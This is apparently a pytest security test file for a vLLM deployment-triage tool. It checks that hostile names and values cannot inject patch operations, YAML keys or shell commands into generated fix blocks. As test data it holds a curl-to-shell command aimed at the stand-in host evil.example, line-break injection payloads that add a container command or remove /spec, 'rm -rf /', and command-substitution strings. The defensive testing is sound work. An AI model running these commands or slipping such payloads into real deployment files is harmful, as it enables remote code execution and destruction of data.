"""Issue 43: every text the tool writes into a file a user will apply is built by that format's serializer, and a
hostile name cannot add a key, an operation or a command to it: one test per format (the JSON Patch block, the
Prometheus rules and PrometheusRule, the Helm values patch, a compose file's fix, the shell lines).

The deployment files are the recorded fixtures (tests/fixtures/deploy, README there) with one name or value bent
into the attack; the attack strings are the ones the round-4 attacker used (a newline, then the operations of
their choice).
"""
from __future__ import annotations

import json
import shlex
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml

sys.path.insert(0, str(Path(__file__).resolve().parent))
from hostile import cli  # noqa: E402

from triage import fixblocks  # noqa: E402
from triage.checklist import run_checklist  # noqa: E402
from triage.target import Target  # noqa: E402

DEPLOY = Path(__file__).resolve().parents[1] / "fixtures" / "deploy"
EVIL_CMD = "curl -s http://evil.example/x | sh"
# the round-4 attack: a newline, then an operation of the attacker's own (every YAML line end, not only \n)
INJECTIONS = {
    "newline": ("vllm\n- op: add\n  path: /spec/template/spec/containers/1/command\n"
                "  value: [sh, -c, '" + EVIL_CMD + "']"),
    "crlf": "vllm\r\n- op: add\r\n  path: /x\r\n  value: [sh, -c, '" + EVIL_CMD + "']",
    "nel": "vllm\x85- op: add\x85  path: /x\x85  value: pwned",
    "u2028": "vllm\u2028- op: add\u2028  path: /x\u2028  value: pwned",
    "cr": "vllm\r- op: add\r  path: /x\r  value: pwned",
}


def _blocks(body: str, truncation: str = "2048") -> list[fixblocks.FixBlock]:
    res = run_checklist(Target(cmdline=body, truncation=truncation))
    return fixblocks.blocks_for_findings(res.findings, res.config, cmdline=body)


def _manifest(container: str) -> str:
    """The seed Deployment (its livelock-risk fix is a patch) with the vLLM container's name bent."""
    docs = list(yaml.safe_load_all((DEPLOY / "seed-deployment.yaml").read_text()))
    docs[1]["spec"]["template"]["spec"]["containers"][1]["name"] = container
    return yaml.safe_dump_all(docs, sort_keys=False)


def _only_the_fix(patch: str, expect_path: str) -> list[dict[str, Any]]:
    """The patch loads as exactly the operations the fix writes: one op, on the container's own list, no command."""
    ops = yaml.safe_load(patch)
    assert isinstance(ops, list) and len(ops) == 1, ops
    assert ops[0]["op"] == "add" and ops[0]["path"] == expect_path, ops
    assert EVIL_CMD not in json.dumps(ops) and "pwned" not in json.dumps(ops)
    comments = [ln for ln in patch.splitlines() if ln.startswith("#")]
    assert len(comments) == 2, patch  # the where and the how, each one line
    return ops


@pytest.mark.parametrize("attack", list(INJECTIONS))
def test_a_container_name_cannot_add_a_patch_operation(attack: str) -> None:
    """main: the name went unescaped into the patch's first comment line: the pasted patch carried the attacker's
    `command: [sh, -c, 'curl … | sh']` as a second operation (kubectl patch --type=json applies it)."""
    blocks = _blocks(_manifest(INJECTIONS[attack]))
    patch = next(b for b in blocks if b.kind == "patch").code
    ops = _only_the_fix(patch, "/spec/template/spec/containers/1/args")
    assert "--no-enable-chunked-prefill" in ops[0]["value"]
    # the name is still said, as a JSON string on the comment line (escaped, ASCII only)
    assert json.dumps(INJECTIONS[attack])[1:-1] in patch.splitlines()[0]
    assert all(ord(c) < 128 for c in patch)


def test_a_file_name_cannot_add_a_patch_operation() -> None:
    """The uploaded file's name is the other outside string on the comment line."""
    from triage import deploy_patch
    from triage.sources import deploy_read

    body = (DEPLOY / "seed-deployment.yaml").read_text()
    name = "fix.yaml\n- op: remove\n  path: /spec"
    dep = deploy_read.read(body, name)
    assert dep is not None
    t = dep.pick(None)
    assert t is not None
    text = deploy_patch.block_text(t, [{"op": "add", "path": "/spec/template/spec/containers/1/args", "value": []}])
    assert yaml.safe_load(text) == [{"op": "add", "path": "/spec/template/spec/containers/1/args", "value": []}]


@pytest.mark.parametrize("attack", ["newline", "u2028"])
def test_a_model_spec_name_cannot_add_a_helm_values_operation(attack: str) -> None:
    """Helm values: the model spec's name is on the comment line; an extraArgs value the file holds is a value."""
    values = yaml.safe_load((DEPLOY / "production-stack-values.yaml").read_text())
    spec = values["servingEngineSpec"]["modelSpec"][0]
    spec["name"] = INJECTIONS[attack]
    spec["vllmConfig"]["enableChunkedPrefill"] = True
    body = yaml.safe_dump(values, sort_keys=False)
    patch = next(b for b in _blocks(body) if b.kind == "patch").code
    ops = _only_the_fix(patch, "/servingEngineSpec/modelSpec/0/vllmConfig/enableChunkedPrefill")
    assert ops[0]["value"] is False


def test_a_compose_service_and_its_command_cannot_add_a_shell_command() -> None:
    """Compose: no patch (the fixed command line only); a hostile service name and a quoted argument holding a
    `;` stay one token each in the shell line."""
    doc = yaml.safe_load((DEPLOY / "compose.yaml").read_text())
    svc = doc["services"].pop("embeddings")
    svc["command"] = svc["command"].replace("--runner pooling",
                                            f"--runner pooling --served-model-name 'm; {EVIL_CMD}'")
    svc["command"] = svc["command"].replace("--max-num-batched-tokens 4096", "--max-num-batched-tokens 8192")
    doc["services"]["emb\n; " + EVIL_CMD] = svc
    body = yaml.safe_dump(doc, sort_keys=False)
    blocks = _blocks(body, "8192")
    assert not [b for b in blocks if b.kind == "patch"]
    line = next(b for b in blocks if b.kind == "cmdline").code
    argv = shlex.split(line)
    assert f"m; {EVIL_CMD}" in argv and "sh" not in argv and "|" not in argv, argv
    assert "\n" not in line


@pytest.mark.parametrize("value", [
    pytest.param(f"x; {EVIL_CMD}", id="semicolon"),
    pytest.param(f"x\n{EVIL_CMD}", id="newline"),
    pytest.param(f"$({EVIL_CMD})", id="substitution"),
    pytest.param(f"`{EVIL_CMD}`", id="backticks"),
])
def test_a_hostile_value_stays_one_word_in_every_shell_block(value: str) -> None:
    """The shell lines (the restart line, the request's curl): each value the user's line carries is one word of
    the serialized line (shlex), so it cannot run a command of its own."""
    from triage import catalogue

    line = shlex.join(["vllm", "serve", "m", "--runner", "pooling", "--served-model-name", value,
                       "--max-model-len", "2048", "--enable-chunked-prefill"])
    res = run_checklist(Target(cmdline=line, truncation="2048"))
    blocks = fixblocks.blocks_for_findings(res.findings, res.config, cmdline=line)
    restart = next(b for b in blocks if b.kind == "cmdline").code
    words = shlex.split(restart)  # one word (a line end in the pasted line may be read as a blank): never a command
    assert (value in words or value.replace("\n", " ") in words) and "sh" not in words
    mode = catalogue.MODES["pooling-livelock"]
    for b in fixblocks.blocks_for_mode(mode, res.config, cmdline=line, model=value, url="http://127.0.0.1:8000",
                                       request_ids=[f"req-1\n{EVIL_CMD}"], now=True):
        if b.language != "bash":
            continue
        words = shlex.split(b.code, comments=True)
        assert "sh" not in words and words.count("curl") <= (b.kind == "request"), (b.kind, b.code)
        if b.kind == "request":
            body = json.loads(words[words.index("-d") + 1])
            assert body["model"] == value


@pytest.mark.parametrize("port", ["8000; curl x | sh", "8000\nrm -rf /", "$(id)"])
def test_the_now_block_port_is_a_number(port: str) -> None:
    """The "now" block's ss lines take the port from the config: only an integer is written into them."""
    from triage import catalogue

    mode = catalogue.MODES["pooling-livelock"]
    b = fixblocks._now_block(mode, {"port": port}, None, [f"r1\n{EVIL_CMD}"])
    assert b is not None
    code = b.code
    assert EVIL_CMD not in code.replace("\\n", " ").split("#", 1)[0]
    for ln in code.splitlines():
        words = shlex.split(ln, comments=True)
        assert not words or words[0] in ("ss", "sudo"), code
    assert "sport = :8000" in code


@pytest.mark.parametrize("args", [
    pytest.param(["--prometheus-rule", "--namespace", "mon\nspec: {}"], id="namespace-newline"),
    pytest.param(["--prometheus-rule", "--namespace", "mon\u2028spec: {}"], id="namespace-u2028"),
    pytest.param(["--prometheus-rule", "--namespace", "Mon itoring"], id="namespace-space"),
    pytest.param(["--prometheus-rule", "--namespace", "a" * 64], id="namespace-64"),
])
def test_fleet_rules_namespace_cannot_add_a_key(args: list[str], tmp_path: Path,
                                                capsys: pytest.CaptureFixture[str]) -> None:
    """main: `--namespace 'mon\\nspec: {}'` wrote `spec: {}` as a key of its own into the PrometheusRule."""
    out = tmp_path / "rule.yml"
    r = cli(capsys, "fleet", "rules", "-o", str(out), *args)
    assert r.rc == 2 and "not a Kubernetes namespace" in r.err, r.err
    assert not out.exists()


def test_fleet_rules_are_serialized_data() -> None:
    """The rules are the serializer's: what loads back is the data built (`groups`), for any value, even one the
    CLI refuses (a namespace with a newline is a string value, never a key)."""
    from triage.fleet import rules

    doc = yaml.safe_load(rules.prometheus_rule_yaml(namespace="mon\nspec: {}\n- alert: X", name="n\nkind: Secret"))
    assert doc["kind"] == "PrometheusRule" and doc["metadata"]["namespace"] == "mon\nspec: {}\n- alert: X"
    assert doc["metadata"]["name"] == "n\nkind: Secret"
    assert doc["spec"] == rules.groups() == yaml.safe_load(rules.rules_yaml())
    assert [r.get("alert") or r.get("record") for r in doc["spec"]["groups"][0]["rules"]] == [
        "VLLMEngineLivelock", "VLLMEngineStuckWaiting", rules.STATE_RECORD, rules.RECURRING_ALERT]


def test_fleet_rules_namespace_accepted(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "rule.yml"
    assert cli(capsys, "fleet", "rules", "-o", str(out), "--prometheus-rule", "--namespace", "monitoring").rc == 0
    assert yaml.safe_load(out.read_text())["metadata"]["namespace"] == "monitoring"
